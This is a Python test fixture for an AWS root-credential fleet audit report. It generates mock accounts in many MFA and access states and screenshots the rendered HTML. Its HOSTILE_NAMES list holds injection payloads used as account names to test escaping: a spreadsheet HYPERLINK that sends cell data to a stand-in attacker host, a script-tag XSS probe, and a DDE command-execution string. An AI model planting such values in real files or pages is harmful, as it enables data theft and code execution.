"""A fleet of mixed root states, judged: the rows the fleet report's tests read, and the script
that draws the README's picture of the report.

``sample_rows(n)`` cycles through :data:`SHAPES` (every verdict, every MFA kind, every rule, each
way out of reach, hostile account names), judged with :func:`runbook_lib.fleet.rules.judge` at
:data:`NOW`. Pure: no AWS, no sandbox.

    .venv/bin/python -m tests.fleet.sample_fleet docs/fleet-report.png

renders ``report.html`` of 40 accounts (in a temporary directory) and saves its first screen in
Debian's chromium (1280 x 900) as the PNG.
"""

from __future__ import annotations

import datetime as dt
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from runbook_lib import __version__
from runbook_lib.fleet.report import AuditMeta, Row, write_report_html
from runbook_lib.fleet.rules import AccessKey, MfaDevice, RootCredentials, judge

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"]
NOW = dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC)
OLD = "2022-02-01T09:00:00Z"  # more than 1095 days before NOW
RECENT = "2026-03-01T09:00:00Z"
MANAGEMENT = "111111111111"
HOSTILE_NAMES = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
    "<script>alert(1)</script>",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
)
META = AuditMeta(
    audit_id="20261201T120000Z-fleet-audit-0f3a",
    organization_id="o-exampleorg1",
    management_account_id=MANAGEMENT,
    region="us-east-1",
    started_at=NOW.isoformat(),
    finished_at=(NOW + dt.timedelta(minutes=4)).isoformat(),
    max_device_age_days=1095,
    product_version=__version__,
)


def _virtual(account: str, enabled: str = RECENT) -> MfaDevice:
    return MfaDevice(f"arn:aws:iam::{account}:mfa/root-account-mfa-device", "virtual", enabled)


def _fido(account: str, enabled: str = RECENT) -> MfaDevice:
    return MfaDevice(f"arn:aws:iam::{account}:u2f/root/yubikey-{account[-4:]}", "fido", enabled)


def _token(account: str, enabled: str = RECENT) -> MfaDevice:
    return MfaDevice(f"GAHT{account[-8:]}", "hardware", enabled)


def _key(account: str) -> AccessKey:
    return AccessKey(account[-4:], active=True, created="2019-05-04T00:00:00Z")


Shape = Callable[[str, str], RootCredentials]
#: (what it is, how to build it from an account id and a name)
SHAPES: tuple[tuple[str, Shape], ...] = (
    ("hardware token", lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_token(a),))),
    (
        "virtual device",
        lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_virtual(a),)),
    ),
    ("fido key", lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_fido(a),))),
    ("password, no mfa", lambda a, n: RootCredentials(a, n, password=True)),
    (
        "fido + virtual",
        lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_fido(a), _virtual(a))),
    ),
    (
        "access key",
        lambda a, n: RootCredentials(
            a, n, password=True, mfa_devices=(_fido(a),), access_keys=(_key(a),)
        ),
    ),
    (
        "old token",
        lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_token(a, OLD),)),
    ),
    (
        "fido + token",
        lambda a, n: RootCredentials(a, n, password=True, mfa_devices=(_fido(a), _token(a))),
    ),
    ("centralised, clean", lambda a, n: RootCredentials(a, n, centralised=True, password=False)),
    (
        "centralised, mfa left",
        lambda a, n: RootCredentials(
            a, n, centralised=True, password=False, mfa_devices=(_virtual(a), _fido(a))
        ),
    ),
    (
        "centralised, password left",
        lambda a, n: RootCredentials(
            a, n, centralised=True, password=True, mfa_devices=(_virtual(a),)
        ),
    ),
    (
        "signing certificate",
        lambda a, n: RootCredentials(a, n, password=False, signing_certificates_active=1),
    ),
    (
        "suspended",
        lambda a, n: RootCredentials(a, n, status="SUSPENDED", reach="suspended"),
    ),
    (
        "access denied",
        lambda a, n: RootCredentials(
            a,
            n,
            reach="access-denied",
            reach_detail="AssumeRoot: AccessDenied, request id 5f1e-example",
        ),
    ),
)
NAMES = (
    "payments-prod",
    "payments-dev",
    "data-lake",
    "identity",
    "log-archive",
    "security-tooling",
    "sandbox-{i:02d}",
    "network-hub",
    "ml-training",
    "web-frontend",
)


def account_id(i: int) -> str:
    """Twelve digits, distinct for each ``i``, not in ascending order (as Organizations lists
    accounts: by creation, not by id)."""
    return f"{100000000000 + (i * 387_420_489_001) % 899_999_999_999:012d}"


def sample_credentials(n: int) -> Iterator[RootCredentials]:
    """The management account first, then ``n - 1`` members cycling through :data:`SHAPES`;
    the hostile names go to the last members (all of them when ``n`` > 5)."""
    yield RootCredentials(MANAGEMENT, "management", reach="management-account")
    hostile = n - len(HOSTILE_NAMES)
    for i in range(1, n):
        name = HOSTILE_NAMES[i - hostile] if i >= hostile else NAMES[i % len(NAMES)].format(i=i)
        _, shape = SHAPES[(i - 1) % len(SHAPES)]
        yield shape(account_id(i), name)


def sample_rows(n: int = 40) -> Iterator[Row]:
    """``n`` accounts, each judged at :data:`NOW` (one at a time: nothing is kept)."""
    for creds in sample_credentials(n):
        yield creds, judge(creds, NOW, META.max_device_age_days, META.region)


@contextmanager
def chromium_page(width: int = 1280, height: int = 900) -> Iterator[Any]:
    """A Playwright page in Debian's chromium (headless), closed afterwards."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=FLAGS, timeout=30_000
        )
        try:
            page = browser.new_page(viewport={"width": width, "height": height})
            page.set_default_timeout(30_000)
            yield page
        finally:
            browser.close()


def screenshot(page_html: Path, png: Path) -> None:
    """The first screen of ``page_html`` (1280 x 900)."""
    with chromium_page() as page:
        page.goto(page_html.resolve().as_uri())
        page.screenshot(path=str(png))


def main(argv: list[str]) -> int:
    if len(argv) != 1 or not argv[0].endswith(".png"):
        print("usage: python -m tests.fleet.sample_fleet OUT.png", file=sys.stderr)
        return 2
    png = Path(argv[0])
    with tempfile.TemporaryDirectory() as tmp:
        page = Path(tmp) / "report.html"
        with page.open("w", encoding="utf-8") as out:
            write_report_html(lambda: sample_rows(40), out, META)
        screenshot(page, png)
    print(f"wrote {png}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
